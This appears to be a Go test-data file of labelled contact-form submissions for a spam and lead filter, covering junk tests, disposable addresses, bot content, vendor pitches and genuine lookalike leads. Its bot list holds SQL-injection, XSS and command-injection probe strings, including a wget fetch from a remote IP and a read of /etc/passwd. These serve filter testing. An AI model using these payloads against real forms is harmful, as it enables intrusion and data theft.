package main

// Round four (source kinds-identity-r4), written on 2026-12-07 after the
// rules that round three informed were done, and measured once before any
// rule changed again: a held-out check of those rules on rows they were
// not shaped on. The same kinds as round three in other words, other
// languages and other shapes.

// testEntries4: someone trying the form.
var testEntries4 = []row{
	{first: "Jan", last: "Janssens", company: "Voorbeeld NV", email: "jan.janssens@telenet.be"},
	{first: "Ion", last: "Popescu", company: "Firma Exemplu SRL", email: "ion.popescu@yahoo.ro"},
	{first: "Γιάννης", last: "Παπαδόπουλος", company: "Δοκιμή ΑΕ", email: "giannis.p@gmail.com", msg: "δοκιμή"},
	{first: "Mustafa", last: "Örnek", company: "Örnek Şirket", email: "ornek@ornek.com.tr", msg: "Test amaçlı gönderilmiştir."},
	{first: "Budi", last: "Contoh", company: "PT Contoh Perusahaan", email: "budi.contoh@gmail.com", msg: "uji coba formulir"},
	{first: "Kovács", last: "János", company: "Minta Kft.", email: "kovacs.janos@freemail.hu", msg: "teszt üzenet"},
	{first: "Janez", last: "Novak", company: "Podjetje d.o.o.", email: "janez.novak@siol.net", msg: "Testno sporočilo, prosim ne odgovarjajte."},
	{first: "Walter", last: "White", company: "Gray Matter Technologies", email: "heisenberg@graymatter.com"},
	{first: "Forrest", last: "Gump", company: "Bubba Gump Shrimp", email: "forrest@bubbagump.com"},
	{first: "Lisa", last: "Simpson", company: "Springfield Elementary", email: "lisa.simpson@springfield.edu"},
	{first: "Willy", last: "Wonka", company: "Wonka Industries", email: "willy@wonka.com"},
	{first: "Gaston", last: "Lagaffe", company: "Éditions Dupuis", email: "gaston.lagaffe@gmail.com"},
	{first: "Kermit", last: "the Frog", company: "Muppets Inc", email: "kermit@muppets.com"},
	{first: "Daniel", last: "Weiss", company: "Adventure Works", email: "daniel.weiss@adventure-works.com"},
	{first: "Ines", last: "Roth", company: "Wide World Importers", email: "ines@wideworldimporters.com"},
	{first: "Muster", last: "Kunde", company: "Ihre Firma GmbH", email: "kunde@ihre-firma.de"},
	{first: "Prénom", last: "Nom", company: "Votre Société", email: "prenom.nom@votre-societe.fr"},
	{first: "QA", last: "Bot", company: "Brightpay", email: "qa-bot+regression-31@brightpay.io", msg: "nightly regression, ignore"},
	{first: "Selenium", last: "Grid", company: "CI", email: "selenium+9981@northwind-logistics.com", msg: "automated submission"},
	{first: "Julia", last: "Krause", company: "Krause Design", email: "julia@dev.krause-design.de", msg: "Test nach Deployment, bitte nicht bearbeiten."},
	{first: "Sam", last: "Lee", company: "Lee & Co", email: "sam@uat.leeandco.com.au", msg: "UAT check of contact form"},
	{first: "Olivia", last: "Brown", company: "Brown Interiors", email: "olivia.brown@gmail.com", msg: "Pack my box with five dozen liquor jugs."},
	{first: "Pablo", last: "Ruiz", company: "Ruiz Eventos", email: "pablo.ruiz@gmail.com", msg: "El veloz murciélago hindú comía feliz cardillo y kiwi. La cigüeña tocaba el saxofón detrás del palenque de paja."},
	{first: "Magda", last: "Nowak", company: "Nowak Studio", email: "magda@nowakstudio.pl", msg: "Tekst zastępczy – do uzupełnienia."},
	{first: "Tim", last: "Baker", company: "Baker", email: "tim.baker@outlook.com", msg: "Lorem ipsum dolor"},
	{first: "x", last: "y", company: "z", email: "xyz@xyz.xyz", msg: "xyz"},
	{first: ".", last: ".", company: ".", email: "dot@gmail.com", msg: "."},
	{first: "Asdf", last: "Jklö", company: "Qwertz GmbH", email: "asdf@web.de", msg: "asdf"},
	{first: "Testuser", last: "Testuser", company: "Testcompany", email: "testuser@testcompany.com"},
	{first: "Demo", last: "Demo", company: "Demo", email: "demo@demo.com", msg: "demo"},
}

// disposable4: throwaway addresses no list may hold yet.
var disposable4 = []row{
	{first: "Ruth", last: "Engel", company: "Engel Optik", email: "ruth.engel@wegwerfadresse.net"},
	{first: "Marek", last: "Dvořák", company: "Dvořák Stavby", email: "marek@docasna-posta.cz"},
	{first: "Tiina", last: "Mägi", company: "Mägi OÜ", email: "tiina@ajutine-post.ee"},
	{first: "Carlos", last: "Mora", company: "Mora Taller", email: "carlos.mora@correo-efimero.com"},
	{first: "Henri", last: "Laurent", company: "Laurent Fleurs", email: "henri@courriel-temporaire.ca"},
	{first: "Nils", last: "Aas", company: "Aas Rør", email: "nils@engangspost.no"},
	{first: "Gabriel", last: "Pinto", company: "Pinto Obras", email: "gabriel@email-descartavel.pt"},
	{first: "Eva", last: "Horváth", company: "Horváth Bt.", email: "eva@ideiglenes-email.hu"},
	{first: "Lukas", last: "Baum", company: "Baum IT", email: "lukas.baum@ghostinbox.net"},
	{first: "Zara", last: "Ali", company: "Ali Fabrics", email: "zara.ali@hiddenmailbox.org"},
	{first: "Kenta", last: "Mori", company: "Mori Koubou", email: "kenta@tempmailz.click"},
	{first: "Ivy", last: "Ng", company: "Ng Florist", email: "ivy.ng@trash-box.site"},
	{first: "Noel", last: "Byrne", company: "Byrne Joinery", email: "noel.byrne@z9q.mailinator.com"},
	{first: "Petra", last: "Lang", company: "Lang Bäckerei", email: "petra.lang+shop@guerrillamail.com"},
	{first: "Aaron", last: "Webb", company: "Webb Motors", email: "aaron@spambox.me"},
	{first: "Maja", last: "Kos", company: "Kos Design", email: "maja.kos@mailnull.com"},
}

// contentBots4: scripts that wait like a person and send junk content.
var contentBots4 = []row{
	{first: "Full Name", last: "", company: "Company Name", email: "gbrown4471@gmail.com", msg: "Your Message"},
	{first: "Nome", last: "Cognome", company: "Azienda", email: "luca.b1988@libero.it", msg: "Messaggio"},
	{first: "Voornaam", last: "Achternaam", company: "Bedrijfsnaam", email: "pvdberg77@hotmail.com", msg: "Bericht"},
	{first: "名前", last: "", company: "会社名", email: "yamamoto.k22@yahoo.co.jp", msg: "メッセージ"},
	{first: "AsDfGhJkLq", last: "ZxCvBnMqWe", company: "PoIuYtReWq", email: "asdfgh8821@gmail.com", msg: "hello"},
	{first: "mRkTqWzBnV", last: "LpXsDfGhKa", company: "", email: "mrktqwzbnv@outlook.com", msg: "QzWxEcRvTbYn"},
	{first: "Kevin", last: "Kevin", company: "Kevin", email: "kevin.kevin@gmail.com", msg: "Kevin"},
	{first: "Anna Smith", last: "Anna Smith", company: "Anna Smith", email: "annasmith88@yahoo.com", msg: "Anna Smith"},
	{first: "admin' OR 1=1 --", last: "a", company: "a", email: "probe1@gmail.com", msg: "' UNION SELECT NULL,NULL--"},
	{first: "<img src=x onerror=prompt(1)>", last: "b", company: "<iframe src=javascript:alert(1)>", email: "probe2@outlook.com", msg: "javascript:alert(document.cookie)"},
	{first: "$(whoami)", last: "; cat /etc/passwd", company: "| id", email: "probe3@gmail.com", msg: "test; wget http://203.0.113.7/x.sh"},
	{first: "{{ contact.firstname }}", last: "{{ contact.lastname }}", company: "{{ company.name }}", email: "jordan.ellis@gmail.com", msg: "Hey {{ contact.firstname }}, saw that {{ company.name }} is hiring."},
	{first: "[First Name]", last: "[Last Name]", company: "[Company]", email: "rachel.ko@outlook.com", msg: "Hi [First Name], hope all is well at [Company]!"},
	{first: "Tom", last: "Fisher", company: "", email: "tomfisher.seo@gmail.com", msg: "{Great|Awesome|Nice} {post|article|site}! {I|We} {will|shall} {bookmark|save} it."},
	{first: "Lena", last: "Ortiz", company: "", email: "lena.ortiz.web@gmail.com", msg: "seo services seo agency seo company seo expert seo consultant seo audit seo packages seo pricing"},
	{first: "Ralf", last: "Vogt", company: "", email: "ralf.vogt.info@web.de", msg: "Kredit ohne Schufa Kredit sofort Kredit online Kredit trotz Schufa Kredit Vergleich Kredit"},
}

// vendorPitches4: polished cold outreach.
var vendorPitches4 = []row{
	{first: "Daniel", last: "Kurz", company: "Kurz Consulting", email: "daniel@kurz-consulting.at",
		msg: "Grüß Gott, wir unterstützen Softwarefirmen bei der Einführung von Salesforce und HubSpot. Dürfen wir Ihnen in einem 20-minütigen Gespräch zeigen, wie wir das in drei Wochen umsetzen?"},
	{first: "Amelia", last: "Grant", company: "Offshore Stack", email: "amelia@offshorestack.com",
		msg: "Hi, we place vetted remote engineers from Eastern Europe and Latin America with SaaS startups, at half the cost of a local hire. Open to a quick chat this week?"},
	{first: "Rahul", last: "Verma", company: "Verma Infotech", email: "rahul@vermainfotech.in",
		msg: "Greetings! Hope you are doing well. We are a leading IT company offering website development, mobile apps and digital marketing at affordable prices. Please let me know if you are interested so I can share our portfolio."},
	{first: "Chloé", last: "Bernard", company: "Bernard Traduction", email: "chloe@bernard-traduction.fr",
		msg: "Bonjour, je suis traductrice technique et j'accompagne les éditeurs SaaS dans la localisation de leur interface en français. Puis-je vous envoyer quelques références ?"},
	{first: "Marta", last: "Gil", company: "Crece Digital", email: "marta@crecedigital.es",
		msg: "Hola, en Crece Digital ayudamos a empresas tecnológicas a conseguir reuniones con directores comerciales mediante campañas de LinkedIn. ¿Le interesaría una llamada de 15 minutos?"},
	{first: "Fernanda", last: "Costa", company: "Costa Finance", email: "fernanda@costafinance.com.br",
		msg: "Olá! Oferecemos crédito para empresas de software com aprovação em 48 horas e sem garantias. Podemos conversar rapidamente amanhã?"},
	{first: "Matteo", last: "Ricci", company: "Ricci Video", email: "matteo@riccivideo.it",
		msg: "Salve, realizziamo video aziendali e spot per il web. Posso mostrarle alcuni lavori in una videochiamata di dieci minuti?"},
	{first: "Bram", last: "Jacobs", company: "Jacobs Recruitment", email: "bram@jacobsrecruitment.nl",
		msg: "Hallo, wij vinden binnen drie weken ervaren sales developers voor SaaS-bedrijven. Heeft u volgende week tijd voor een kort gesprek?"},
	{first: "Игорь", last: "Белов", company: "ДевТим", email: "i.belov@devteam-pro.ru",
		msg: "Здравствуйте! Наша команда разработчиков возьмёт на себя доработку вашего продукта: бэкенд, фронтенд, мобильные приложения. Давайте обсудим задачи на коротком звонке?"},
	{first: "Mikael", last: "Nieminen", company: "Nieminen Digital", email: "mikael@nieminendigital.fi",
		msg: "Hei! Autamme ohjelmistoyrityksiä kasvattamaan myyntiä LinkedIn-mainonnalla. Sopisiko lyhyt puhelu ensi viikolla?"},
	{first: "Ewa", last: "Kaczmarek", company: "Kaczmarek SEO", email: "ewa@kaczmarekseo.pl",
		msg: "Dzień dobry, przeanalizowaliśmy Państwa stronę i widzimy duży potencjał w pozycjonowaniu. Oferujemy bezpłatny audyt SEO. Czy możemy umówić krótką rozmowę?"},
	{first: "Oliver", last: "Shaw", company: "Shaw Capital", email: "oliver@shawcapital.co.uk",
		msg: "Hello, we invest in early-stage B2B software companies and would love to learn more about what you are building. Would you be open to a 20-minute intro call?"},
	{first: "Nina", last: "Patel", company: "BrightLeads Data", email: "nina@brightleadsdata.com",
		msg: "Hi there, would a list of 8,000 procurement managers in manufacturing, with verified emails and phone numbers, be useful for your outbound team? Happy to send a free sample."},
	{first: "Jake", last: "Morrison", company: "Morrison Web Studio", email: "jake@morrisonweb.studio",
		msg: "Hey, I redesigned a couple of SaaS landing pages recently and doubled their sign-ups. I put together a quick mockup for your homepage. Mind if I send it over?"},
	{first: "Can", last: "Demir", company: "Demir Dijital", email: "can@demirdijital.com.tr",
		msg: "Merhaba, yazılım şirketlerine Google Ads ve SEO hizmeti veriyoruz. Size özel bir teklif hazırlamak için kısa bir görüşme yapabilir miyiz?"},
}

// identityLookalikes4: genuine leads that look like the junk above.
var identityLookalikes4 = []row{
	{first: "Walter", last: "Weiß", company: "Weiß Sanitär", email: "walter@weiss-sanitaer.de", msg: "Was kostet Ihr Filter für zwei Kontaktformulare?"},
	{first: "Lisa", last: "Simons", company: "Simons Accountancy", email: "lisa@simonsaccountancy.co.uk", msg: "Do you offer monthly billing for small practices?"},
	{first: "Anna", last: "Testoni", company: "Testoni Calzature", email: "anna@testoni-calzature.it", msg: "Buongiorno, il vostro servizio funziona anche con Shopify?"},
	{first: "Kai", last: "Probst", company: "Probst Prüftechnik", email: "kai.probst@probst-prueftechnik.de", msg: "Wir prüfen Schweißnähte und suchen ein Formular-Tool mit Spamfilter. Gibt es eine Testversion?"},
	{first: "Eleni", last: "Georgiou", company: "Georgiou Δοκιμές Υλικών", email: "eleni@georgiou-labs.gr", msg: "Καλημέρα, θα θέλαμε προσφορά για πέντε χρήστες."},
	{first: "Ahmet", last: "Yılmaz", company: "Yılmaz Lojistik", email: "ahmet@yilmazlojistik.com.tr", msg: "Merhaba, deneme sürümü var mı? Önce test etmek istiyoruz."},
	{first: "Dewi", last: "Lestari", company: "CV Maju Bersama", email: "dewi.lestari@yahoo.co.id", msg: "Apakah ada harga khusus untuk UKM? Kami ingin uji coba dulu."},
	{first: "Peter", last: "Parker", company: "Parker Roofing", email: "peter@parkerroofing.com.au", msg: "Does your tool integrate with WordPress?"},
	{first: "Marcus", last: "Ghost", company: "Ghost Kitchen Supply", email: "marcus@ghostkitchensupply.com", msg: "We get a lot of junk through our wholesale enquiry form. Can we try your filter?"},
	{first: "Helga", last: "Null", company: "Null Architekten", email: "h.null@null-architekten.de", msg: "Bitte senden Sie uns ein Angebot für unser Büro mit 9 Personen."},
	{first: "Priscila", last: "Alves", company: "Alves Eventos", email: "priscila.alves@uol.com.br", msg: "Olá, vocês oferecem teste grátis? Quero testar no meu site antes."},
	{first: "Stefan", last: "Dev", company: "Dev & Partner Steuerberatung", email: "stefan.dev@dev-partner.de", msg: "Gibt es einen Auftragsverarbeitungsvertrag?"},
	{first: "Joanna", last: "Lis", company: "Lis Software House", email: "joanna@lissoftware.pl", msg: "We are a software house and want to resell your filter to our clients. Could we get partner pricing and book a call?"},
	{first: "Kevin", last: "O'Connor", company: "O'Connor Engineering", email: "kevin@oconnor-eng.ie", msg: "Please ignore my earlier message; we need 8 seats, not 5. Could you update the quote?"},
	{first: "Li", last: "Wei", company: "Wei Import Export", email: "liwei@weiimport.cn", msg: "请问你们的产品支持中文表单吗？价格是多少？"},
	{first: "Emma", last: "Svensson", company: "Svensson Bygg AB", email: "emma@svenssonbygg.se", msg: "Hej! Finns det en gratis provperiod?"},
	{first: "Raj", last: "Kumar", company: "Kumar Textiles", email: "raj.kumar@rediffmail.com", msg: "Please share the price for 3 users."},
	{first: "Mia", last: "Hofer", company: "Hofer Webdesign", email: "mia@hofer-webdesign.at", msg: "Unterstützt Ihr Autoresponder Variablen wie [Vorname] oder {{firma}}? Das wäre für unsere Kunden wichtig."},
	{first: "Ben", last: "Carter", company: "Carter Security", email: "ben@cartersecurity.co.uk", msg: "Before we buy: how does your form treat input like ' OR 1=1 -- or <script> tags? Our pentest policy requires an answer."},
	{first: "Sofia", last: "Mendes", company: "Mendes Imobiliária", email: "sofia@mendesimobiliaria.pt", msg: "Bom dia, precisamos de filtrar pedidos de contacto falsos. Qual o preço?"},
}
